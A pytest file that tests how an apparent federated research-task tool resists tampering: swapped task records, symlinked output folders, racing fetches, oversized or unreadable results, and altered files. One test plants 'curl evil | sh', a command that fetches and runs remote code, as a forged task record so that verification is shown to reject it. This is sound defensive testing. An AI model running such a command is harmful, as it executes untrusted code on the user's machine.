"""What a site, the bucket or a second process may do to a researcher's folder and commands."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from ptm import layout, results
from ptm.client import TaskHandle
from ptm.errors import AccessDenied, DigestMismatch, PtmError, VerificationError
from ptm.results import SavedResult, save_result, verify_folder
from ptm.store.memory import MemoryStore
from tests.federation import Federation, image_folder


@pytest.fixture
def federation(tmp_path: Path) -> Federation:
    return Federation(MemoryStore(), tmp_path).create().admit(alice="researcher", maastro="site", umcu="site")


@pytest.fixture
def done(federation: Federation, tmp_path: Path) -> TaskHandle:
    """A task that both sites have finished."""
    task = federation.client().put("demo/count:1", ["maastro", "umcu"])
    for site in ("maastro", "umcu"):
        federation.run_once(site, images={"demo/count:1": image_folder(tmp_path / "count")})
    return task


def test_a_task_record_exchanged_after_it_was_read_is_never_saved(
    federation: Federation, done: TaskHandle, tmp_path: Path
) -> None:
    """The handle has verified its task; then the bucket puts something else there."""
    assert done.task.id == done.id
    federation.store.put(layout.task("alice", done.id), b"curl evil | sh")
    with pytest.raises(VerificationError):
        list(done.results(timeout=0, folder=tmp_path / "out"))
    assert list((tmp_path / "out").iterdir()) == []


def test_an_authentic_task_record_of_another_task_is_never_saved(
    federation: Federation, done: TaskHandle, tmp_path: Path
) -> None:
    other = federation.client().put("demo/count:1", ["maastro"])
    assert done.task.id == done.id
    federation.store.put(layout.task("alice", done.id), federation.store.get(layout.task("alice", other.id), 10**6))
    with pytest.raises(VerificationError):
        list(done.results(timeout=0, folder=tmp_path / "out"))
    assert list((tmp_path / "out").iterdir()) == []


def test_two_fetches_into_one_folder_both_succeed(
    federation: Federation, done: TaskHandle, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The second looks before the first has renamed, and renames after it."""
    out, registry = tmp_path / "out", federation.registry("alice")
    roster = registry.roster()
    task, digest = registry.own_task(done.id)
    raw = registry.result_bytes("maastro", done.id) or b""
    fill = results._fill

    def slow(*given: object) -> None:
        fill(*given)  # type: ignore[arg-type]
        monkeypatch.setattr(results, "_fill", fill)
        save_result(registry, roster, raw, "maastro", task, digest, out)

    monkeypatch.setattr(results, "_fill", slow)
    saved = save_result(registry, roster, raw, "maastro", task, digest, out)
    assert saved.folder == out / "maastro"
    assert [path.name for path in out.iterdir()] == ["maastro"]


def test_a_link_in_a_sites_place_is_not_followed(done: TaskHandle, tmp_path: Path) -> None:
    (tmp_path / "out").mkdir()
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "out" / "maastro").symlink_to(tmp_path / "elsewhere")
    (tmp_path / "out" / "umcu").symlink_to(tmp_path / "nowhere")
    with pytest.raises(PtmError, match="already"):
        list(done.results(timeout=0, folder=tmp_path / "out"))
    assert list((tmp_path / "elsewhere").iterdir()) == []
    assert not (tmp_path / "nowhere").exists()


def test_verify_does_not_overlook_a_site_whose_envelope_was_taken_away(
    federation: Federation, done: TaskHandle, tmp_path: Path
) -> None:
    list(done.results(timeout=0, folder=tmp_path / "out"))
    (tmp_path / "out" / "umcu" / "result.json").unlink()
    (tmp_path / "out" / "umcu" / "count.json").write_text('{"rows": 999}')
    registry = federation.registry("alice")
    checked = verify_folder(registry, registry.roster(), tmp_path / "out")
    assert [isinstance(item, SavedResult) for item in checked] == [True, False]


def test_verify_minds_no_folder_that_is_no_sites(federation: Federation, done: TaskHandle, tmp_path: Path) -> None:
    list(done.results(timeout=0, folder=tmp_path / "out"))
    (tmp_path / "out" / "notes").mkdir()
    registry = federation.registry("alice")
    assert all(isinstance(item, SavedResult) for item in verify_folder(registry, registry.roster(), tmp_path / "out"))


@pytest.mark.parametrize("spoil", ["huge", "denied"])
def test_one_sites_unreadable_result_does_not_hide_what_the_others_say(
    federation: Federation, done: TaskHandle, spoil: str
) -> None:
    key = layout.result("maastro", done.id)
    store = federation.store
    assert isinstance(store, MemoryStore)
    if spoil == "huge":
        store.put(key, b"x" * (2**20 + 1))
    else:

        def deny(verb: str, touched: str) -> None:
            if touched == key:
                raise AccessDenied(f"{key}: permission denied")

        store.before = deny
    assert [(s.site, s.state) for s in done.status()] == [("maastro", "unverified"), ("umcu", "completed")]


def test_one_huge_task_record_does_not_hide_the_other_tasks(federation: Federation, done: TaskHandle) -> None:
    other = federation.client().put("demo/count:1", ["maastro"])
    federation.store.put(layout.task("alice", done.id), b"x" * (2**20 + 1))
    assert [task.id for task in federation.client().tasks()] == [other.id]


def test_a_resumed_fan_out_puts_only_what_was_verified(federation: Federation, tmp_path: Path) -> None:
    """The record is exchanged between the look that verifies it and the one that is sent out."""
    task = federation.client().put("demo/count:1", ["maastro"])
    federation.store.delete(layout.queue("maastro", "alice", task.id))
    good = federation.store.get(layout.task("alice", task.id), 10**6)
    store = federation.store
    assert isinstance(store, MemoryStore)

    def exchange(verb: str, key: str) -> None:
        if verb == "get" and key == layout.task("alice", task.id):
            store.after = lambda verb, key: None
            store.put(key, b"exchanged")

    store.after = exchange
    task.resume()
    assert store.get(layout.queue("maastro", "alice", task.id), 10**6) == good


def test_a_tampered_folder_is_told_from_a_good_one(done: TaskHandle, federation: Federation, tmp_path: Path) -> None:
    list(done.results(timeout=0, folder=tmp_path / "out"))
    shutil.copy(tmp_path / "out/maastro/count.json", tmp_path / "out/umcu/count.json")
    registry = federation.registry("alice")
    bad = [item for item in verify_folder(registry, registry.roster(), tmp_path / "out") if not isinstance(item, SavedResult)]
    assert [type(error) for _, error in bad] == [DigestMismatch]
